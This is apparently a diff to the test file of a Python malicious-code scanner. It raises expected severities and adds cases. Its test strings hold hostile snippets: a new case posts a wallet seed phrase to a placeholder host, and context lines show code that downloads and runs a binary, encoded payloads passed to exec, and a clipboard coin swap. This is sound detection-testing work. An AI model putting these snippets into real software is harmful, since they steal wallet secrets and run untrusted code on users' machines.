@@ -53,12 +53,8 @@ POSITIVES = [
     ),
     Case("hex exec", f"exec(bytes.fromhex('{HEX}').decode())\n", {(DECODE, C)}),
     Case("rot13 exec", f"import codecs\nexec(codecs.decode({ROT!r}, 'rot13'))\n", {(DECODE, C)}),
-    Case(
-        "reversed literal exec", f"exec({PAYLOAD[::-1]!r}[::-1])\n", {("WC-CODE-IMPORT-SPAWN", M)}
-    ),
-    Case(
-        "chr join exec", f"exec(''.join(chr(c) for c in [{CHRS}]))\n", {("WC-CODE-IMPORT-SPAWN", M)}
-    ),
+    Case("reversed literal exec", f"exec({PAYLOAD[::-1]!r}[::-1])\n", {(DECODE, C)}),
+    Case("chr join exec", f"exec(''.join(chr(c) for c in [{CHRS}]))\n", {(DECODE, C)}),
     Case(
         "__import__ indirection",
         f"exec(__import__('base64').b64decode('{B64}'))\n",
@@ -103,7 +99,7 @@ POSITIVES = [
         "        f.write(r.content)\n"
         "    os.chmod('/tmp/tool', 0o755)\n"
         "    subprocess.run(['/tmp/tool'])\n",
-        {(DOWNLOAD, M)},
+        {(DOWNLOAD, H)},
     ),
     Case(
         "reverse shell in a thread started at import",
@@ -170,6 +166,14 @@ POSITIVES = [
         {("WC-CODE-STEALER", H)},
     ),
     Case(
+        "seed phrase posted to a fixed address",
+        "import requests\n"
+        "def restore(mnemonic_phrase):\n"
+        "    body = {'mnemonic': mnemonic_phrase}\n"
+        "    requests.post('https://wallet-check.example/api', json=body)\n",
+        {("WC-CODE-EXFILTRATION", H)},
+    ),
+    Case(
         "clipboard coin swap",
         "import re, pyperclip\n"
         "BTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
@@ -204,7 +208,7 @@ POSITIVES = [
     Case(
         "shell command at import",
         "import subprocess\nINFO = subprocess.run('uname -a; id', shell=True)\n",
-        {("WC-CODE-IMPORT-SPAWN", M)},
+        {("WC-CODE-IMPORT-SPAWN", H)},
     ),
     Case(
         "tool run at import",
@@ -214,7 +218,7 @@ POSITIVES = [
     Case(
         "connection at import",
         "import urllib.request\nurllib.request.urlopen('https://example.org/ping')\n",
-        {("WC-CODE-IMPORT-NETWORK", M)},
+        {("WC-CODE-IMPORT-NETWORK", H)},
     ),
     Case(
         "configured connection at import",
@@ -230,12 +234,12 @@ POSITIVES = [
         "@register\n"
         "def api():\n"
         "    pass\n",
-        {("WC-CODE-IMPORT-SPAWN", M)},
+        {("WC-CODE-IMPORT-SPAWN", H)},
     ),
     Case(
         "class body and constructor at import",
         "import os\nclass Boot:\n    def __init__(self):\n        os.system('id')\nBOOT = Boot()\n",
-        {("WC-CODE-IMPORT-SPAWN", M)},
+        {("WC-CODE-IMPORT-SPAWN", H)},
     ),
     Case(
         "atexit hook downloading",
@@ -254,7 +258,7 @@ POSITIVES = [
         "pyarmor runtime",
         "from .pyarmor_runtime_000000 import __pyarmor__\n"
         "__pyarmor__(__name__, __file__, b'PY0000')\n",
-        {("WC-CODE-OBFUSCATED", M)},
+        {("WC-CODE-OBFUSCATED", H)},
     ),
     Case(
         "setup.py downloads and runs",
@@ -324,6 +328,12 @@ NEGATIVES = [
         "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), '_native.so'))\n",
         quiet=L,
         pure=False,
+    ),
+    Case("ansi colours on windows", "import os\nif os.name == 'nt':\n    os.system('')\n", quiet=M),
+    Case(
+        "wallet library signing locally",
+        "def sign(private_key, tx):\n    return {'private_key': None, 'tx': tx}\n",
+        quiet=L,
     ),
     Case("main guard", "import os\nif __name__ == '__main__':\n    os.system('make')\n", quiet=M),
     Case(
